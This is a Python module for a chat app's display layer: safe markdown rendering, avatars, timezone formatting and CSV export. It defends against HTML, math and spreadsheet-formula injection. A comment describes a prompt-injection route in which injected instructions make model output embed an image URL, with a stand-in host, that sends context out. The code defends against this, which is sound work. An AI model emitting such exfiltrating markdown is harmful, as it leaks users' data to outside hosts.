"""How messages look in the app, kept free of streamlit: safe markdown, highlighting, author colours and
avatars, times in the viewer's timezone, and the CSV of a listing.

Safety rule: message content never reaches the browser as HTML. Chat text goes through
safe_markdown() (markdown stays, raw HTML and math are shown as typed); model output goes through
safe_model_markdown() (also no images, no active links); search snippets and names go through
escape_markdown(), which neutralises every markdown character, before terms are marked.
"""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime, timedelta, timezone, tzinfo
from functools import lru_cache
from xml.sax.saxutils import escape as xml_escape
from zoneinfo import ZoneInfo, ZoneInfoNotFoundError

import pandas as pd

from collab_core.models import Message

# Avatar colours: readable with white text, distinct for neighbours in the list.
AVATAR_COLOURS = (
    "#2563EB",
    "#DB2777",
    "#059669",
    "#D97706",
    "#7C3AED",
    "#DC2626",
    "#0891B2",
    "#65A30D",
    "#C026D3",
    "#EA580C",
    "#4F46E5",
    "#0D9488",
    "#9333EA",
    "#E11D48",
    "#0284C7",
)
# Streamlit markdown colour names (for :colour-badge[...]) matched to the avatar colour families.
_MD_COLOURS = ("blue", "red", "green", "orange", "violet", "red", "blue", "green", "violet", "orange")
# Chart colours by rank: the first ten are the most distinct; "others" is always grey.
CHART_COLOURS = (
    "#3B82F6",
    "#F97316",
    "#10B981",
    "#EF4444",
    "#8B5CF6",
    "#EAB308",
    "#06B6D4",
    "#EC4899",
    "#84CC16",
    "#6366F1",
    "#14B8A6",
    "#F43F5E",
    "#A855F7",
    "#F59E0B",
    "#0EA5E9",
)
OTHERS_COLOUR = "#9CA3AF"


def _name_hash(name: str) -> int:
    # md5, not hash(): Python's string hash changes per process and colours must not.
    return int.from_bytes(hashlib.md5(name.strip().casefold().encode("utf-8")).digest()[:4], "big")


def author_colour(name: str) -> str:
    """A stable colour (hex) for an author, the same in every session and process."""
    return AVATAR_COLOURS[_name_hash(name) % len(AVATAR_COLOURS)]


def author_md_colour(name: str) -> str:
    """The Streamlit markdown colour name closest to author_colour(name) (for badges)."""
    return _MD_COLOURS[_name_hash(name) % len(AVATAR_COLOURS) % len(_MD_COLOURS)]


def initials(name: str) -> str:
    """One or two letters for an avatar: 'Alice Kim' -> 'AK', '김민수' -> '김', '' -> '?'."""
    words = [w for w in re.split(r"[\s._-]+", name.strip()) if w]
    if not words:
        return "?"
    first = words[0][0]
    if not first.isascii():
        return first  # one Hangul syllable already names the person
    if len(words) > 1 and words[1][0].isascii() and words[1][0].isalpha():
        return (first + words[1][0]).upper()
    return first.upper()


@lru_cache(maxsize=4096)
def avatar_svg(name: str) -> str:
    """A round SVG avatar with the author's initials on their colour (st.chat_message accepts SVG)."""
    letters = xml_escape(initials(name))
    size = 30 if len(letters) == 1 else 24
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">'
        f'<circle cx="32" cy="32" r="32" fill="{author_colour(name)}"/>'
        f'<text x="32" y="32" dy="0.35em" text-anchor="middle" fill="#FFF" font-size="{size}" '
        f'font-family="sans-serif" font-weight="600">{letters}</text></svg>'
    )


@lru_cache(maxsize=4096)
def avatar_url(name: str) -> str:
    """avatar_svg(name) as a data: URL, so Streamlit passes it through instead of re-encoding per message."""
    return "data:image/svg+xml;base64," + base64.b64encode(avatar_svg(name).encode("utf-8")).decode("ascii")


# -- safe text --------------------------------------------------------------------------------------

# Every ASCII punctuation character CommonMark lets us backslash-escape and that markdown, GFM or
# Streamlit's extensions (directives :red[..], :material/..:, $math$) give meaning to.
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|$~:&=\"'^])")
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(.+?)\1", re.S)


def escape_markdown(text: str) -> str:
    """Text that markdown shows exactly as typed (names, snippets); newlines become spaces."""
    return _MD_SPECIAL.sub(r"\\\1", re.sub(r"\s+", " ", text))


def _escape_prose(text: str) -> str:
    # Outside code: '<' can open raw HTML and '$' opens math; everything else stays markdown.
    return text.replace("\\<", "\\\\<").replace("<", "\\<").replace("$", "\\$")


def _escape_inline(text: str) -> str:
    out: list[str] = []
    pos = 0
    for m in _CODE_SPAN.finditer(text):
        out.append(_escape_prose(text[pos : m.start()]))
        out.append(m.group(0))  # code spans already show their content literally
        pos = m.end()
    out.append(_escape_prose(text[pos:]))
    return "".join(out)


def safe_markdown(text: str) -> str:
    """Message content as markdown that can never become HTML: tags like <script> or <img onerror>
    are shown as text, code blocks and inline code are kept, '$' is a dollar sign, not math."""
    lines = text.split("\n")
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in lines:
        m = _FENCE.match(line)
        if fence is None:
            if m:
                if prose:
                    out.append(_escape_inline("\n".join(prose)))
                    prose = []
                fence = m.group(1)[0] * len(m.group(1))
                out.append(line)
            else:
                prose.append(line)
        else:
            out.append(line)
            if m and m.group(1).startswith(fence) and line.strip() == m.group(1):
                fence = None
    if prose:
        out.append(_escape_inline("\n".join(prose)))
    if fence is not None:
        out.append(fence)  # close an unterminated fence so it cannot swallow what follows
    return "\n".join(out)


# Model output may carry instructions injected through project text: an image whose URL holds
# context (`![x](http://host/?d=...)`) would make every viewer's browser send it there. So model
# text keeps its markdown but never an image or an active link: both become their words with the
# address beside them as inline code (code never links, never loads).
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)]*)?\)")
_LINK = re.compile(r"\[([^\]\n]+)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)]*)?\)")
_REF_DEF = re.compile(r"^( {0,3})\[([^\]\n]+)\]:\s*(\S+).*$", re.M)
_REF_USE = re.compile(r"!?\[([^\]\n]+)\]\[([^\]\n]*)\]")
_BARE_URL = re.compile(r"(?<![\w`/])((?:https?|ftp)://[^\s<>`)\]]+|www\.[^\s<>`)\]]+)", re.I)


def _address(url: str) -> str:
    url = url.replace("`", "")
    return f"`{url}`" if url else ""


def _bare(url: str) -> str:
    tail = len(url) - len(url.rstrip(".,;:!?"))
    return _address(url[: len(url) - tail]) + url[len(url) - tail :]


def _inert_prose(text: str) -> str:
    """Images and links of one prose stretch as plain words plus their address in code."""
    out: list[str] = []
    pos = 0
    # Bare URLs are turned into code first, then the link/image forms (whose URLs sit inside them).
    for m in _CODE_SPAN.finditer(text):
        out.append(_inert_piece(text[pos : m.start()]))
        out.append(m.group(0))
        pos = m.end()
    out.append(_inert_piece(text[pos:]))
    return "".join(out)


def _inert_piece(text: str) -> str:
    marks: list[str] = []

    def keep(s: str) -> str:
        marks.append(s)
        return f"\x00{len(marks) - 1}\x00"

    text = _IMAGE.sub(lambda m: keep(f"[{m.group(1) or 'image'}] ({_address(m.group(2))})"), text)
    text = _LINK.sub(lambda m: keep(f"{m.group(1)} ({_address(m.group(2))})"), text)
    text = _REF_DEF.sub(lambda m: keep(f"{m.group(1)}\\[{m.group(2)}\\]: {_address(m.group(3))}"), text)
    text = _REF_USE.sub(lambda m: keep(f"\\[{m.group(1)}\\]\\[{m.group(2)}\\]"), text)
    text = _BARE_URL.sub(lambda m: keep(_bare(m.group(1))), text)
    return re.sub(r"\x00(\d+)\x00", lambda m: marks[int(m.group(1))], text)


def safe_model_markdown(text: str) -> str:
    """Model output as inert markdown: safe_markdown's rules plus no images and no active links
    (each shown as its text with the address as plain code); nothing is fetched from anywhere."""
    lines = text.replace("\x00", "").split("\n")
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in lines:
        m = _FENCE.match(line)
        if fence is None and not m:
            prose.append(line)
            continue
        if prose:
            out.append(_inert_prose("\n".join(prose)))
            prose = []
        out.append(line)
        if fence is None:
            fence = m.group(1)[0] * len(m.group(1)) if m else None
        elif m and m.group(1).startswith(fence) and line.strip() == m.group(1):
            fence = None
    if prose:
        out.append(_inert_prose("\n".join(prose)))
    return safe_markdown("\n".join(out))


_SLOT = re.compile("\ue000(\\d+)\ue001")


def _code_ranges(text: str) -> list[tuple[int, int]]:
    """Where `text` is code (fenced blocks, inline code spans): mentions there stay as typed."""
    ranges: list[tuple[int, int]] = []
    pos, fence, fence_start = 0, None, 0
    prose_start = 0
    for line in text.split("\n"):
        m = _FENCE.match(line)
        if fence is None and m:
            ranges.extend(
                (prose_start + a.start(), prose_start + a.end()) for a in _CODE_SPAN.finditer(text[prose_start:pos])
            )
            fence, fence_start = m.group(1)[0] * len(m.group(1)), pos
        elif fence is not None and m and m.group(1).startswith(fence) and line.strip() == m.group(1):
            ranges.append((fence_start, pos + len(line)))
            fence, prose_start = None, pos + len(line)
        pos += len(line) + 1
    if fence is not None:
        ranges.append((fence_start, len(text)))
    else:
        ranges.extend((prose_start + a.start(), prose_start + a.end()) for a in _CODE_SPAN.finditer(text[prose_start:]))
    return ranges


def mention_markdown(text: str, spans: Sequence[tuple[int, int, int]], *, me: int | None = None) -> str:
    """safe_markdown(text) with each @mention (spans from chat.mentions.mention_spans) highlighted:
    mentions of `me` bold on orange, others on blue. Mentions inside code stay as typed."""
    text = text.replace("\ue000", "").replace("\ue001", "")
    if not spans:
        return safe_markdown(text)
    code = _code_ranges(text)
    marks: list[str] = []
    out: list[str] = []
    pos = 0
    for start, end, uid in sorted(spans):
        if start < pos or any(a <= start < b for a, b in code):
            continue
        name = escape_markdown(text[start:end])
        marks.append(f":orange-background[**{name}**]" if uid == me else f":blue-background[{name}]")
        out.append(text[pos:start] + f"\ue000{len(marks) - 1}\ue001")
        pos = end
    out.append(text[pos:])
    return _SLOT.sub(lambda m: marks[int(m.group(1))], safe_markdown("".join(out)))


def _term_spans(text: str, terms: Iterable[str]) -> list[tuple[int, int]]:
    low = text.lower()
    spans: list[tuple[int, int]] = []
    for term in {t.lower() for t in terms if t and t.strip()}:
        start = 0
        while True:
            i = low.find(term, start)
            if i < 0:
                break
            j = i + len(term)
            if term.isascii() and term[-1:].isalnum():
                # Stemmed terms ('schedul') mark the whole word ('schedule').
                while j < len(low) and low[j].isascii() and low[j].isalnum():
                    j += 1
            spans.append((i, j))
            start = i + 1
    spans.sort()
    merged: list[tuple[int, int]] = []
    for s, e in spans:
        if merged and s <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(e, merged[-1][1]))
        else:
            merged.append((s, e))
    return merged


def snippet(text: str, terms: Sequence[str], *, width: int = 320) -> str:
    """The part of a long text around its first matched term (whole text when short)."""
    flat = re.sub(r"\s+", " ", text).strip()
    if len(flat) <= width:
        return flat
    spans = _term_spans(flat, terms)
    first = spans[0][0] if spans else 0
    start = max(0, first - width // 3)
    end = min(len(flat), start + width)
    start = max(0, end - width)
    return ("…" if start > 0 else "") + flat[start:end].strip() + ("…" if end < len(flat) else "")


def highlight_markdown(text: str, terms: Sequence[str], *, colour: str = "orange") -> str:
    """Escape the text, then mark every matched term with :colour-background[..] (safe markdown)."""
    flat = re.sub(r"\s+", " ", text)
    out: list[str] = []
    pos = 0
    for s, e in _term_spans(flat, terms):
        out.append(escape_markdown(flat[pos:s]))
        out.append(f":{colour}-background[**{escape_markdown(flat[s:e])}**]")
        pos = e
    out.append(escape_markdown(flat[pos:]))
    return "".join(out)


# -- time -----------------------------------------------------------------------------------------


def viewer_timezone(name: str | None = None, offset_min: int | None = None) -> tzinfo:
    """The browser's IANA zone, else its UTC offset (JS sign: minutes *behind* UTC), else UTC."""
    if name:
        try:
            return ZoneInfo(name)
        except (ZoneInfoNotFoundError, ValueError):
            pass
    if offset_min is not None:
        return timezone(-timedelta(minutes=int(offset_min)))
    return UTC


def utc_offset_minutes(tz: tzinfo, at: datetime | None = None) -> int:
    """The zone's offset from UTC in minutes right now (for SQL day/hour grouping)."""
    moment = at or datetime.now(UTC)
    offset = moment.astimezone(tz).utcoffset() or timedelta(0)
    return int(offset.total_seconds() // 60)


def local_time(dt: datetime, tz: tzinfo) -> datetime:
    return (dt if dt.tzinfo else dt.replace(tzinfo=UTC)).astimezone(tz)


_WEEKDAYS = {
    "en": ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"),
    "ko": ("월", "화", "수", "목", "금", "토", "일"),
}
_WEEKDAYS_LONG = {
    "en": ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"),
    "ko": ("월요일", "화요일", "수요일", "목요일", "금요일", "토요일", "일요일"),
}
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def weekday_names(lang: str, *, long: bool = False) -> tuple[str, ...]:
    """Monday-first weekday names in the UI language."""
    table = _WEEKDAYS_LONG if long else _WEEKDAYS
    return table.get(lang, table["en"])


def day_label(day: date, lang: str, *, today: date | None = None) -> str:
    """A day heading: '오늘' / 'Today', '어제' / 'Yesterday', else '2025년 6월 2일 (월)' / 'Mon, Jun 2, 2025'."""
    if today is not None:
        if day == today:
            return "오늘" if lang == "ko" else "Today"
        if day == today - timedelta(days=1):
            return "어제" if lang == "ko" else "Yesterday"
    wd = weekday_names(lang)[day.weekday()]
    if lang == "ko":
        return f"{day.year}년 {day.month}월 {day.day}일 ({wd})"
    return f"{wd}, {_MONTHS[day.month - 1]} {day.day}, {day.year}"


def short_time(dt: datetime, tz: tzinfo) -> str:
    """'14:05' in the viewer's zone."""
    return local_time(dt, tz).strftime("%H:%M")


def when(dt: datetime, tz: tzinfo, lang: str, *, now: datetime | None = None) -> str:
    """A compact timestamp: '14:05' today, '6월 2일 14:05' / 'Jun 2, 14:05' this year, with the year otherwise."""
    local = local_time(dt, tz)
    today = local_time(now or datetime.now(UTC), tz).date()
    hm = local.strftime("%H:%M")
    if local.date() == today:
        return hm
    if lang == "ko":
        prefix = (
            f"{local.month}월 {local.day}일"
            if local.year == today.year
            else f"{local.year}년 {local.month}월 {local.day}일"
        )
        return f"{prefix} {hm}"
    prefix = f"{_MONTHS[local.month - 1]} {local.day}" + ("" if local.year == today.year else f", {local.year}")
    return f"{prefix}, {hm}"


# -- listings -------------------------------------------------------------------------------------

_CSV_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: str) -> str:
    # A leading formula character makes spreadsheets execute the cell; quote it as text.
    return "'" + value if value.startswith(_CSV_FORMULA) else value


def messages_frame(items: Sequence[Message], tz: tzinfo) -> pd.DataFrame:
    """The rows a listing shows, one per message (tombstones keep who removed it and when)."""
    rows = [
        {
            "id": m.id,
            "time": local_time(m.created_at, tz).strftime("%Y-%m-%d %H:%M:%S%z"),
            "author": m.author,
            "kind": m.kind,
            "role": m.role,
            "content": m.content,
            "removed_by": m.deleted_by or "",
            "removed_at": local_time(m.deleted_at, tz).strftime("%Y-%m-%d %H:%M:%S%z") if m.deleted_at else "",
        }
        for m in items
    ]
    columns = ["id", "time", "author", "kind", "role", "content", "removed_by", "removed_at"]
    return pd.DataFrame(rows, columns=columns)


def messages_csv(items: Sequence[Message], tz: tzinfo) -> bytes:
    """CSV (UTF-8 with BOM so spreadsheet apps read Korean correctly) of exactly these messages."""
    frame = messages_frame(items, tz)
    for col in ("author", "content", "removed_by"):
        frame[col] = frame[col].map(_csv_cell)
    return frame.to_csv(index=False).encode("utf-8-sig")
